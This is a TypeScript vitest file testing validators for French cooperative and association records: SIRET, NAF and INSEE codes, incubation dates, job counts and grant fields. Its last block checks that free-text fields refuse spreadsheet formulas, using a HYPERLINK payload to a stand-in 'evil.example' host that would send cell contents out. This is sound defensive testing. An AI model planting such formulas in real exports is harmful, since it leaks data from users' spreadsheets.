import { describe, expect, it } from "vitest";
import { LEGAL_CATEGORY_FACTS } from "./legal-categories";
import { enterpriseProblems, fundingProblems, grantPublicationProblems, incubationProblems, jobRecordProblems } from "./records";

const inTerritory = (code: string) => code === "79191";
const provenance = { source: "Saisie CAN", dataYear: 2024 };
const fields = (problems: Array<{ field: string }>) => problems.map((p) => p.field);

describe("enterprise", () => {
  const valid = {
    name: "Scop Les Ateliers",
    siret: "73282932000074",
    legalFamily: "COOPERATIVE",
    cooperativeKind: "SCOP",
    nafCode: "88.99B",
    communeCode: "79191",
    foundedOn: "2023-04-01",
    ...provenance,
  } as const;
  it("accepts a complete enterprise", () => expect(enterpriseProblems(valid, inTerritory, LEGAL_CATEGORY_FACTS)).toEqual([]));
  it("names the SIRET check digit, the NAF code, the commune and the cooperative kind", () => {
    const problems = enterpriseProblems(
      { ...valid, siret: "73282932000075", nafCode: "88.99", communeCode: "75056", cooperativeKind: null },
      inTerritory,
      LEGAL_CATEGORY_FACTS,
    );
    expect(fields(problems)).toEqual(["cooperativeKind", "siret", "nafCode", "communeCode"]);
    expect(problems[1]?.message).toContain("clé de contrôle");
  });
  it("wants an RNA in its format, and only for associations", () => {
    expect(enterpriseProblems({ ...valid, siret: null, rna: "W12345" }, inTerritory, LEGAL_CATEGORY_FACTS).map((p) => p.message)).toEqual([
      "Le numéro RNA s'écrit W suivi de 9 chiffres (ex. W791234567).",
      "Seule une association a un numéro RNA.",
    ]);
  });
  it("refuses a cessation before the creation", () =>
    expect(fields(enterpriseProblems({ ...valid, ceasedOn: "2022-01-01" }, inTerritory, LEGAL_CATEGORY_FACTS))).toEqual(["ceasedOn"]));
  it("takes an INSEE legal category that exists and agrees with the family and the Scop kind", () => {
    const check = (changes: object) => enterpriseProblems({ ...valid, ...changes }, inTerritory, LEGAL_CATEGORY_FACTS);
    expect(check({ legalCategory: "5458" })).toEqual([]);
    expect(check({ legalCategory: "5560", cooperativeKind: "SCIC" })).toEqual([]);
    expect(fields(check({ legalCategory: "1234" }))).toEqual(["legalCategory"]);
    expect(fields(check({ legalCategory: "54" }))).toEqual(["legalCategory"]);
    const association = check({ legalCategory: "9220" });
    expect(association.map((p) => p.message)).toEqual(["La catégorie juridique 9220 (Association déclarée) est celle d'une famille « Association »."]);
    expect(fields(check({ legalCategory: "5558", cooperativeKind: "SCIC" }))).toEqual(["cooperativeKind"]);
  });
});

describe("incubation, jobs, funding", () => {
  it("ties the end date to the outcome", () => {
    const base = { enterpriseId: "e", supportingPartnerId: "p", startDate: "2024-01-10", outcome: "CREATED", ...provenance } as const;
    expect(fields(incubationProblems(base))).toEqual(["endDate"]);
    expect(fields(incubationProblems({ ...base, endDate: "2023-12-31" }))).toEqual(["endDate"]);
    expect(incubationProblems({ ...base, endDate: "2024-09-30" })).toEqual([]);
    expect(fields(incubationProblems({ ...base, outcome: "IN_PROGRESS", endDate: "2024-09-30" }))).toEqual(["endDate"]);
  });
  it("keeps FTE within the jobs created and dates real", () => {
    expect(fields(jobRecordProblems({ enterpriseId: "e", year: 2024, jobsCreated: 2, fte: "2.5", ...provenance }))).toEqual(["fte"]);
    expect(fields(jobRecordProblems({ enterpriseId: "e", year: 1999, jobsCreated: -1, fte: "abc", ...provenance }))).toEqual(["year", "jobsCreated", "fte"]);
  });
  it("checks a funding's amount, beneficiary, dates and SCDL fields", () => {
    const base = {
      funderId: "f",
      beneficiaryEnterpriseId: "e",
      amount: "15000.50",
      year: 2024,
      decisionDate: "2024-03-01",
      instrument: "GRANT",
      purpose: "Démarrage",
      ...provenance,
    } as const;
    expect(fundingProblems(base)).toEqual([]);
    expect(
      fields(fundingProblems({ ...base, beneficiaryPartnerId: "p", amount: "0", decisionDate: "2024-02-30", fundingShare: "1.5", raeId: "123456" })),
    ).toEqual(["beneficiaryEnterpriseId", "amount", "decisionDate", "fundingShare", "raeId"]);
    expect(fields(grantPublicationProblems({ conventionDate: null, amount: "100", paymentTerms: " ", beneficiarySiret: null, beneficiaryRna: null }))).toEqual([
      "conventionDate",
      "paymentTerms",
      "beneficiaryEnterpriseId",
    ]);
  });
});

describe("text a spreadsheet would run as a formula", () => {
  const grant = {
    funderId: "f",
    beneficiaryEnterpriseId: "e",
    amount: "1000",
    year: 2024,
    decisionDate: "2024-01-10",
    instrument: "GRANT",
    purpose: "Aide au démarrage",
    ...provenance,
  } as const;
  it("is refused in every free-text field, with the field named", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r", " =", "\t="]) {
      const problems = fundingProblems({
        ...grant,
        purpose: `${start}HYPERLINK("http://evil.example/?x="&A1,"Voir")`,
        paymentTerms: `${start}1+1`,
        source: `${start}cmd`,
      });
      expect(fields(problems), JSON.stringify(start)).toEqual(["purpose", "paymentTerms", "source"]);
      expect(problems[0]?.message).toMatch(/formule/);
    }
    expect(
      fields(
        enterpriseProblems(
          { name: "@SUM(A1)", legalFamily: "ASSOCIATION", nafCode: "88.99B", communeCode: "79191", ...provenance },
          inTerritory,
          LEGAL_CATEGORY_FACTS,
        ),
      ),
    ).toEqual(["name"]);
  });
  it("is accepted further in the text", () =>
    expect(fundingProblems({ ...grant, purpose: "Aide = 50 % du besoin, +10 % en 2025", paymentTerms: "unique" })).toEqual([]));
});
